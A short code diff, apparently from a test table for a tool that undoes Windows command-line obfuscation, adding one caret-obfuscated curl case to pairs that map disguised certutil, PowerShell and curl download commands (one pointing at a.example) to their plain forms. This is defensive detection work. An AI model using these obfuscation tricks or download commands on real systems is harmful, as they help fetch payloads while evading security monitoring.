@@ -9,6 +9,7 @@ static const struct {
 	/* cmd */
 	{ "cmd /c c^e^r^tutil -url^cache", "cmd /c certutil -urlcache" },
 	{ "cmd.exe /c echo a ^& curl", "cmd.exe /c echo a & curl" },
+	{ "c^url -O x", "curl -O x" },
 	{ "p^o^w^e^rshell -nop", "powershell -nop" },
 	{ "cmd /c \"set a=cu&&set b=rl&&call %a%%b% -O http://a.example/x\"",
 	  "cmd /c \"set a=cu&&set b=rl&&call curl -O http://a.example/x\"" },
